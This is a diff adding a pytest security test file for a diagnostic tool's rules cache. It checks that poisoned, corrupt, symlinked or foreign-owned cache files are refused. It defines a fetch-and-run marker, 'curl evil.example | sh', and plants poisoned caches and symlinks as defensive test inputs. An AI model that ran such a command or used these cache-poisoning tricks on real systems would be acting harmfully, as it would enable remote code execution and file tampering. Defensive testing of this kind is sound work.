@@ -1,0 +1,151 @@
+"""The rules cache can be neither poisoned nor used to clobber files, and a broken cache
+never breaks a run (issue 15.2): whatever sits at the cache's path, the report is the one
+the YAML rules give."""
+
+from __future__ import annotations
+
+import json
+import os
+import stat
+
+import pytest
+from ddp_doctor import kb as kb_module
+from helpers import FIXTURES, cli
+
+PASTE = FIXTURES / "real" / "unused_module__info__torchrun.txt"
+POISON = "curl evil.example | sh"
+
+pytestmark = pytest.mark.skipif(os.name != "posix", reason="the cache is POSIX-only")
+
+
+def run(cache_home, *extra: str, **env):
+    environ = {"XDG_CACHE_HOME": str(cache_home), **env}
+    return cli("triage", "--json", *extra, str(PASTE), env=environ, timeout=20)
+
+
+@pytest.fixture(scope="module")
+def expected(tmp_path_factory):
+    """The report straight from the YAML, no cache involved."""
+    home = tmp_path_factory.mktemp("nocache")
+    result = run(home, DDP_DOCTOR_NO_CACHE="1")
+    assert result.returncode == 0 and "unused" in result.out
+    return result.out
+
+
+def cache_file(home) -> str:
+    """Fill the cache with a first run and return the path of its file."""
+    assert run(home).returncode == 0
+    folder = home / "ddp-doctor"
+    names = [n for n in os.listdir(folder) if n.startswith("rules-") and n.endswith(".json")]
+    assert len(names) == 1, names
+    return str(folder / names[0])
+
+
+def poisoned(path: str) -> str:
+    """The cache at `path` with every fix titled POISON, still a valid cache in the format
+    the tool wrote it (a header line with the payload's size and digest, or plain JSON)."""
+    with open(path, "rb") as handle:
+        data = handle.read()
+    first, _, rest = data.partition(b"\n")
+    header = json.loads(first) if rest else None
+    raw = json.loads(rest if header else data)
+    for fix in raw["fixes"]:
+        fix["title"] = {"en": POISON, "zh": POISON}
+    body = json.dumps(raw, ensure_ascii=False)
+    if not header:
+        return body
+    from hashlib import blake2b
+
+    payload = body.encode("utf-8")
+    header.update(size=len(payload), digest=blake2b(payload, digest_size=16).hexdigest())
+    return json.dumps(header) + "\n" + body
+
+
+def test_cache_folder_is_private(tmp_path):
+    cache_file(tmp_path)
+    mode = stat.S_IMODE(os.stat(tmp_path / "ddp-doctor").st_mode)
+    assert mode == 0o700
+
+
+@pytest.mark.parametrize(
+    "content",
+    [b"null", b"[]", b"{}", b'{"messages": 1}', b"[" * 200_000 + b"]" * 200_000],
+    ids=["null", "list", "empty", "wrong-shape", "deep"],
+)
+def test_a_corrupt_cache_never_breaks_a_run(tmp_path, expected, content):
+    path = cache_file(tmp_path)
+    with open(path, "wb") as handle:
+        handle.write(content)
+    result = run(tmp_path)
+    assert result.returncode == 0, result.err
+    assert result.out == expected
+    assert run(tmp_path).out == expected  # and the cache was rebuilt
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
+def test_a_fifo_at_the_cache_path_does_not_hang(tmp_path, expected):
+    path = cache_file(tmp_path)
+    os.unlink(path)
+    os.mkfifo(path)
+    result = run(tmp_path)
+    assert result.returncode == 0 and result.out == expected
+
+
+def test_a_symlink_at_the_cache_path_is_not_followed(tmp_path, expected):
+    path = cache_file(tmp_path)
+    poison = poisoned(path)
+    with open(path, "w", encoding="utf-8") as handle:
+        handle.write(poison)
+    # the control: the poison is a valid cache, so where it is refused below, that is
+    # because of where it sits (a file in one's own private folder is one's own)
+    assert POISON in run(tmp_path).out
+    planted = tmp_path / "elsewhere.json"
+    planted.write_text(poison, encoding="utf-8")
+    os.unlink(path)
+    os.symlink(planted, path)
+    result = run(tmp_path)
+    assert result.returncode == 0 and POISON not in result.out
+    assert result.out == expected
+    assert POISON in planted.read_text(encoding="utf-8")  # untouched
+
+
+def test_a_cache_folder_others_can_write_is_not_trusted(tmp_path, expected):
+    path = cache_file(tmp_path)
+    poison = poisoned(path)
+    with open(path, "w", encoding="utf-8") as handle:
+        handle.write(poison)
+    os.chmod(tmp_path / "ddp-doctor", 0o777)
+    result = run(tmp_path)
+    assert result.returncode == 0 and POISON not in result.out
+    assert result.out == expected
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a folder to another user")
+def test_a_cache_folder_of_another_user_is_not_trusted(tmp_path, expected):
+    path = cache_file(tmp_path)
+    poison = poisoned(path)
+    with open(path, "w", encoding="utf-8") as handle:
+        handle.write(poison)
+    os.chown(tmp_path / "ddp-doctor", 65534, 65534)
+    os.chown(path, 65534, 65534)
+    result = run(tmp_path)
+    assert result.returncode == 0 and POISON not in result.out
+
+
+def test_a_planted_symlink_at_a_temporary_name_is_never_written_through(tmp_path, monkeypatch):
+    """The old writer opened `rules-KEY.json.<pid>.tmp` with a plain open(): a symlink
+    planted at that name made a run overwrite any file the user can write."""
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
+    monkeypatch.delenv("DDP_DOCTOR_NO_CACHE", raising=False)
+    monkeypatch.delenv("DDP_DOCTOR_RULES", raising=False)
+    monkeypatch.setattr(kb_module, "_LOADED", {})
+    folder = tmp_path / "ddp-doctor"
+    folder.mkdir(mode=0o700)
+    dirs = [kb_module._builtin_rules_dir()]
+    key = kb_module._cache_key([p for d in dirs for p in kb_module._rule_paths(d)])
+    victim = tmp_path / "precious.txt"
+    victim.write_text("keep me", encoding="utf-8")
+    for pid in {os.getpid(), os.getppid()}:
+        os.symlink(victim, folder / f"rules-{key}.json.{pid}.tmp")
+    kb_module.load()
+    assert victim.read_text(encoding="utf-8") == "keep me"
